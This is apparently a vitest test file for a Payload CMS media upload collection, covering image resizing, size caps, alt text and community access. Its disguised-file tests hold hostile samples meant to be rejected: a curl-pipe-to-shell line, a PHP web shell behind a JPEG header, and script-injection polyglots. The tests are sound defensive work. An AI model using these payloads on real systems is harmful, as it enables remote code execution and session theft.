import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs'
import path from 'node:path'

import type { Payload } from 'payload'
import sharp from 'sharp'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'

import { MAX_UPLOAD_BYTES } from '../../cms/collections/Media/limits.ts'
import { startCms, type TestCms } from '../helpers/cms.ts'
import { createTwoCommunities } from '../helpers/fixtures.ts'
import { as, createUser, type TestUser } from '../helpers/users.ts'
import { refusal, type Refusal } from '../helpers/refusal.ts'
import { pdf } from '../helpers/testFiles.ts'

/**
 * Uploads through the Local API, as the admin's upload form and every other path end up doing:
 * real images get their web sizes, real PDFs are kept; files that are not what they claim to be,
 * files over the size cap and images without alt text are refused, and then neither the database
 * nor the media directory changes. Editors upload and see only their own community's files.
 */

type MediaDoc = Record<string, unknown> & {
  id: string | number
  filename: string
  mimeType: string
  width?: number | null
  height?: number | null
  alt?: string | null
  community?: unknown
  sizes?: Record<
    string,
    {
      filename: string | null
      width: number | null
      height: number | null
      mimeType: string | null
    }
  >
}
type Upload = { data: Buffer; mimetype: string; name: string; size: number }

let cms: TestCms
let payload: Payload
let mediaDir: string
let sourceDir: string
let world: Awaited<ReturnType<typeof createTwoCommunities>>
let admin: TestUser
let editorA: TestUser
let serial = 0

const name = (base: string, ext: string) => `${base}-${(serial += 1)}.${ext}`
const upload = (data: Buffer, filename: string, mimetype: string): Upload => ({
  data,
  mimetype,
  name: filename,
  size: data.length,
})

beforeAll(async () => {
  cms = await startCms()
  payload = cms.payload
  mediaDir = process.env.MEDIA_DIR!
  sourceDir = path.join(cms.dataDir, 'to-upload')
  mkdirSync(sourceDir, { recursive: true })
  world = await createTwoCommunities(payload)
  admin = await createUser(payload, { role: 'admin' }) // first account: an admin either way
  editorA = await createUser(payload, { role: 'editor', communities: [world.communityA.id] })
})
afterAll(async () => cms?.close())

const count = async () =>
  (await payload.count({ collection: 'media', overrideAccess: true })).totalDocs
const filesOnDisk = () => (existsSync(mediaDir) ? readdirSync(mediaDir).sort() : [])

async function stored(id: string | number) {
  const { docs } = await payload.find({
    collection: 'media',
    where: { id: { equals: id } },
    overrideAccess: true,
    depth: 0,
  })
  return docs[0] as unknown as MediaDoc | undefined
}

/** Runs a write that must be refused and checks that neither the database nor the disk changed. */
async function expectRefusedAndNothingStored(write: () => Promise<unknown>): Promise<Refusal> {
  const before = { count: await count(), files: filesOnDisk() }
  const error = await refusal(write())
  expect(await count()).toEqual(before.count)
  expect(filesOnDisk()).toEqual(before.files)
  return error
}

const image = (format: 'png' | 'jpeg' | 'webp', width: number, height: number) =>
  sharp({ create: { width, height, channels: 3, background: { r: 40, g: 120, b: 200 } } })
    .composite([
      {
        input: {
          create: {
            width: Math.floor(width / 3),
            height: Math.floor(height / 3),
            channels: 3,
            background: '#f5c518',
          },
        },
        left: 10,
        top: 10,
      },
    ])
    .toFormat(format)
    .toBuffer()

describe('real images and PDFs are accepted', () => {
  const SIZES = { thumbnail: 400, card: 800, large: 1600 }

  async function expectWebSizes(doc: MediaDoc, width: number, height: number) {
    for (const [size, sizeWidth] of Object.entries(SIZES)) {
      const generated = doc.sizes?.[size]
      expect(generated?.width, size).toEqual(sizeWidth)
      expect(Math.abs(generated!.height! - (height * sizeWidth) / width), size).toBeLessThanOrEqual(
        1,
      )
      expect(generated?.mimeType).toEqual('image/webp')
      const onDisk = path.join(mediaDir, generated!.filename!)
      expect(existsSync(onDisk), onDisk).toBe(true)
      const metadata = await sharp(onDisk).metadata()
      expect(metadata.format).toEqual('webp')
      expect(metadata.width).toEqual(sizeWidth)
    }
  }

  it('a PNG given as a file path is stored with its thumbnail, card and large sizes', async () => {
    const filePath = path.join(sourceDir, name('lou-dao', 'png'))
    writeFileSync(filePath, await image('png', 2000, 1200))
    const doc = (await payload.create({
      collection: 'media',
      data: { alt: '楼道改造后的样子' } as never,
      filePath,
      ...as(admin),
    })) as unknown as MediaDoc
    const saved = (await stored(doc.id))!
    expect(saved.mimeType).toEqual('image/png')
    expect([saved.width, saved.height]).toEqual([2000, 1200])
    expect(readFileSync(path.join(mediaDir, saved.filename))).toEqual(readFileSync(filePath))
    await expectWebSizes(saved, 2000, 1200)
  })

  it('a JPEG given as data is stored with its sizes', async () => {
    const data = await image('jpeg', 1800, 1000)
    const doc = (await payload.create({
      collection: 'media',
      data: { alt: '议事会现场' } as never,
      file: upload(data, name('yi-shi-hui', 'jpg'), 'image/jpeg'),
      ...as(admin),
    })) as unknown as MediaDoc
    const saved = (await stored(doc.id))!
    expect(saved.mimeType).toEqual('image/jpeg')
    expect([saved.width, saved.height]).toEqual([1800, 1000])
    await expectWebSizes(saved, 1800, 1000)
  })

  it('a WebP given as data is stored with its sizes', async () => {
    const data = await image('webp', 1700, 900)
    const doc = (await payload.create({
      collection: 'media',
      data: { alt: '社区花园' } as never,
      file: upload(data, name('hua-yuan', 'webp'), 'image/webp'),
      ...as(admin),
    })) as unknown as MediaDoc
    const saved = (await stored(doc.id))!
    expect(saved.mimeType).toEqual('image/webp')
    await expectWebSizes(saved, 1700, 900)
  })

  it('a small image gets only the sizes it is large enough for (it is never enlarged)', async () => {
    const data = await image('png', 600, 300)
    const doc = (await payload.create({
      collection: 'media',
      data: { alt: '小图' } as never,
      file: upload(data, name('xiao-tu', 'png'), 'image/png'),
      ...as(admin),
    })) as unknown as MediaDoc
    const saved = (await stored(doc.id))!
    expect(saved.sizes?.thumbnail?.width).toEqual(400)
    expect(saved.sizes?.card?.filename ?? null).toBeNull()
    expect(saved.sizes?.large?.filename ?? null).toBeNull()
  })

  it('a real PDF is stored as it is, without alt text and without image sizes', async () => {
    const data = pdf()
    const doc = (await payload.create({
      collection: 'media',
      data: {} as never,
      file: upload(data, name('jue-yi', 'pdf'), 'application/pdf'),
      ...as(admin),
    })) as unknown as MediaDoc
    const saved = (await stored(doc.id))!
    expect(saved.mimeType).toEqual('application/pdf')
    expect(readFileSync(path.join(mediaDir, saved.filename))).toEqual(data)
    for (const size of Object.keys(SIZES)) expect(saved.sizes?.[size]?.filename ?? null).toBeNull()
  })

  it('deleting an upload removes its file and every size from the disk', async () => {
    const data = await image('png', 1700, 1000)
    const doc = (await payload.create({
      collection: 'media',
      data: { alt: '待删除' } as never,
      file: upload(data, name('shan-chu', 'png'), 'image/png'),
      ...as(admin),
    })) as unknown as MediaDoc
    const saved = (await stored(doc.id))!
    const files = [saved.filename, ...Object.values(saved.sizes ?? {}).map((s) => s.filename!)]
    expect(files.every((f) => existsSync(path.join(mediaDir, f)))).toBe(true)
    await payload.delete({ collection: 'media', id: doc.id, ...as(admin) })
    expect(await stored(doc.id)).toBeUndefined()
    expect(files.filter((f) => existsSync(path.join(mediaDir, f)))).toEqual([])
  })
})

describe('files that are not what they claim to be are refused, and nothing is stored', () => {
  const png = () => image('png', 64, 64)
  const disguised: Array<[string, () => Promise<Upload> | Upload]> = [
    [
      'plain text named .png',
      () => upload(Buffer.from('这不是图片，只是一段文字。\n'), name('text', 'png'), 'image/png'),
    ],
    [
      'an HTML page with a script named .png',
      () =>
        upload(
          Buffer.from(
            '<!doctype html><html><body><script>alert(document.cookie)</script></body></html>',
          ),
          name('page', 'png'),
          'image/png',
        ),
    ],
    [
      'a shell script named .jpg',
      () =>
        upload(
          Buffer.from('#!/bin/sh\ncurl http://example.test/x | sh\n'),
          name('script', 'jpg'),
          'image/jpeg',
        ),
    ],
    [
      'JavaScript named .webp',
      () =>
        upload(
          Buffer.from('fetch("/api/users").then(r => r.json())\n'),
          name('code', 'webp'),
          'image/webp',
        ),
    ],
    [
      'an SVG image',
      () =>
        upload(
          Buffer.from(
            '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10"/></svg>',
          ),
          name('vector', 'svg'),
          'image/svg+xml',
        ),
    ],
    [
      'an SVG with a script named .png',
      () =>
        upload(
          Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
          name('vector', 'png'),
          'image/png',
        ),
    ],
    [
      'a Windows executable named .pdf',
      () =>
        upload(
          Buffer.concat([
            Buffer.from('MZ'),
            Buffer.alloc(126),
            Buffer.from('PE\0\0'),
            Buffer.alloc(256),
          ]),
          name('setup', 'pdf'),
          'application/pdf',
        ),
    ],
    [
      'plain text named .pdf',
      () => upload(Buffer.from('请查收附件。\n'), name('note', 'pdf'), 'application/pdf'),
    ],
    [
      'a PDF header followed by a script, without a PDF body',
      () =>
        upload(
          Buffer.from('%PDF-1.4\n<script>alert(1)</script>\n'),
          name('fake', 'pdf'),
          'application/pdf',
        ),
    ],
    [
      'a PNG header followed by HTML',
      async () =>
        upload(
          Buffer.concat([
            (await png()).subarray(0, 33),
            Buffer.from('<html><script>alert(1)</script></html>'),
          ]),
          name('polyglot', 'png'),
          'image/png',
        ),
    ],
    [
      'a JPEG header followed by PHP',
      () =>
        upload(
          Buffer.concat([
            Buffer.from([0xff, 0xd8, 0xff, 0xe0]),
            Buffer.from('<?php system($_GET["c"]); ?>'),
          ]),
          name('shell', 'jpg'),
          'image/jpeg',
        ),
    ],
  ]

  it.each(disguised)('%s', async (_label, make) => {
    const file = await make()
    const error = await expectRefusedAndNothingStored(() =>
      payload.create({
        collection: 'media',
        data: { alt: '伪装的文件' } as never,
        file,
        ...as(admin),
      }),
    )
    expect(error.status).toEqual(400)
  })

  it('plain text on disk named .png, given as a file path', async () => {
    const filePath = path.join(sourceDir, name('disguised', 'png'))
    writeFileSync(filePath, 'just text\n')
    const error = await expectRefusedAndNothingStored(() =>
      payload.create({
        collection: 'media',
        data: { alt: '伪装的文件' } as never,
        filePath,
        ...as(admin),
      }),
    )
    expect(error.status).toEqual(400)
  })
})

describe('the size cap', () => {
  it('a file of exactly the cap is accepted', async () => {
    const data = pdf('上限', MAX_UPLOAD_BYTES)
    expect(data.length).toEqual(MAX_UPLOAD_BYTES)
    const doc = (await payload.create({
      collection: 'media',
      data: {} as never,
      file: upload(data, name('shang-xian', 'pdf'), 'application/pdf'),
      ...as(admin),
    })) as unknown as MediaDoc
    expect((await stored(doc.id))?.filesize).toEqual(MAX_UPLOAD_BYTES)
  })

  it('a file one byte over the cap is refused with 413', async () => {
    const data = pdf('过大', MAX_UPLOAD_BYTES + 1)
    const error = await expectRefusedAndNothingStored(() =>
      payload.create({
        collection: 'media',
        data: {} as never,
        file: upload(data, name('guo-da', 'pdf'), 'application/pdf'),
        ...as(admin),
      }),
    )
    expect(error.status).toEqual(413)
    expect(error.message).toMatch(/文件过大/)
  })

  it('an oversized file given as a file path is refused with 413', async () => {
    const filePath = path.join(sourceDir, name('guo-da', 'pdf'))
    writeFileSync(filePath, pdf('过大', MAX_UPLOAD_BYTES + 4096))
    const error = await expectRefusedAndNothingStored(() =>
      payload.create({ collection: 'media', data: {} as never, filePath, ...as(editorA) }),
    )
    expect(error.status).toEqual(413)
  })

  it('replacing a stored file with an oversized one is refused with 413, and the stored file stays', async () => {
    const original = pdf('原件')
    const doc = (await payload.create({
      collection: 'media',
      data: {} as never,
      file: upload(original, name('yuan-jian', 'pdf'), 'application/pdf'),
      ...as(admin),
    })) as unknown as MediaDoc
    const before = (await stored(doc.id))!
    const error = await expectRefusedAndNothingStored(() =>
      payload.update({
        collection: 'media',
        id: doc.id,
        data: {} as never,
        file: upload(pdf('过大', MAX_UPLOAD_BYTES + 1), name('guo-da', 'pdf'), 'application/pdf'),
        ...as(admin),
      }),
    )
    expect(error.status).toEqual(413)
    const after = (await stored(doc.id))!
    expect([after.filename, after.filesize]).toEqual([before.filename, before.filesize])
    expect(readFileSync(path.join(mediaDir, after.filename))).toEqual(original)
  })
})

describe('alt text', () => {
  it.each([
    ['no alt text', {}],
    ['empty alt text', { alt: '' }],
    ['blank alt text', { alt: '   ' }],
  ])('an image with %s is refused', async (_label, data) => {
    const file = upload(await image('jpeg', 500, 300), name('no-alt', 'jpg'), 'image/jpeg')
    const error = await expectRefusedAndNothingStored(() =>
      payload.create({ collection: 'media', data: data as never, file, ...as(admin) }),
    )
    expect(error.data?.errors?.map((e) => e.path)).toEqual(['alt'])
    expect(error.data?.errors?.[0]?.message).toMatch(/图片必须填写替代文字/)
  })

  it('removing the alt text of a stored image is refused, and the alt text stays', async () => {
    const file = upload(await image('png', 500, 300), name('has-alt', 'png'), 'image/png')
    const doc = (await payload.create({
      collection: 'media',
      data: { alt: '原有说明' } as never,
      file,
      ...as(admin),
    })) as unknown as MediaDoc
    await refusal(
      payload.update({ collection: 'media', id: doc.id, data: { alt: '' } as never, ...as(admin) }),
    )
    expect((await stored(doc.id))?.alt).toEqual('原有说明')
  })
})

describe('who may upload and see what', () => {
  const media: Record<string, MediaDoc> = {}

  beforeAll(async () => {
    const make = async (key: string, community: string | number | null) => {
      const file = upload(await image('png', 450, 300), name(key, 'png'), 'image/png')
      media[key] = (await payload.create({
        collection: 'media',
        data: { alt: key, community } as never,
        file,
        ...as(admin),
      })) as unknown as MediaDoc
    }
    await make('ofA', world.communityA.id)
    await make('ofB', world.communityB.id)
    await make('shared', null)
  })

  it('an editor of community A uploads for community A', async () => {
    const file = upload(await image('png', 450, 300), name('a-upload', 'png'), 'image/png')
    const doc = (await payload.create({
      collection: 'media',
      data: { alt: '甲的照片', community: world.communityA.id } as never,
      file,
      ...as(editorA),
    })) as unknown as MediaDoc
    const saved = (await stored(doc.id))!
    expect(String(saved.community)).toEqual(String(world.communityA.id))
    expect(existsSync(path.join(mediaDir, saved.filename))).toBe(true)
  })

  it('an editor of community A cannot upload for community B', async () => {
    const file = upload(await image('png', 450, 300), name('b-upload', 'png'), 'image/png')
    const error = await expectRefusedAndNothingStored(() =>
      payload.create({
        collection: 'media',
        data: { alt: '乙的照片', community: world.communityB.id } as never,
        file,
        ...as(editorA),
      }),
    )
    expect(error.status).toEqual(403)
    expect(error.message).toMatch(/无权/)
  })

  it('an editor cannot upload shared media (without a community); that is for admins', async () => {
    const file = upload(await image('png', 450, 300), name('shared-upload', 'png'), 'image/png')
    const error = await expectRefusedAndNothingStored(() =>
      payload.create({
        collection: 'media',
        data: { alt: '共享图片' } as never,
        file,
        ...as(editorA),
      }),
    )
    expect(error.status).toEqual(403)
  })

  it('an editor of community A sees A’s files and shared files, but not B’s', async () => {
    const { docs } = await payload.find({
      collection: 'media',
      pagination: false,
      depth: 0,
      ...as(editorA),
    })
    const ids = docs.map((d) => String(d.id))
    expect(ids).toContain(String(media.ofA!.id))
    expect(ids).toContain(String(media.shared!.id))
    expect(ids).not.toContain(String(media.ofB!.id))
    expect(
      docs.every((d) => d.community == null || String(d.community) === String(world.communityA.id)),
    ).toBe(true)
    await expect(
      payload.findByID({ collection: 'media', id: media.ofB!.id, ...as(editorA) }),
    ).rejects.toThrow()
  })

  it('an editor of community A cannot change or delete B’s files or shared files', async () => {
    for (const key of ['ofB', 'shared']) {
      const doc = media[key]!
      await refusal(
        payload.update({
          collection: 'media',
          id: doc.id,
          data: { alt: '改掉' } as never,
          ...as(editorA),
        }),
      )
      await refusal(payload.delete({ collection: 'media', id: doc.id, ...as(editorA) }))
      const after = (await stored(doc.id))!
      expect(after.alt).toEqual(key)
      expect(existsSync(path.join(mediaDir, after.filename))).toBe(true)
    }
  })

  it('anonymous visitors cannot upload', async () => {
    const file = upload(await image('png', 450, 300), name('anon', 'png'), 'image/png')
    const error = await expectRefusedAndNothingStored(() =>
      payload.create({
        collection: 'media',
        data: { alt: '匿名上传' } as never,
        file,
        ...as(undefined),
      }),
    )
    expect(error.status).toEqual(403)
  })

  it('anonymous visitors read a file only once a published document uses it', async () => {
    const read = () =>
      payload.find({
        collection: 'media',
        where: { id: { equals: media.ofB!.id } },
        depth: 0,
        ...as(undefined),
      })
    expect((await read()).docs).toEqual([])
    const notice = await payload.create({
      collection: 'notices',
      data: {
        title: '附件公开测试',
        kind: 'other',
        community: world.communityB.id,
        attachments: [media.ofB!.id],
        _status: 'published',
      } as never,
      ...as(admin),
    })
    expect((await read()).docs.map((d) => d.filename)).toEqual([media.ofB!.filename])
    await payload.delete({ collection: 'notices', id: notice.id, ...as(admin) })
    expect((await read()).docs).toEqual([])
  })
})
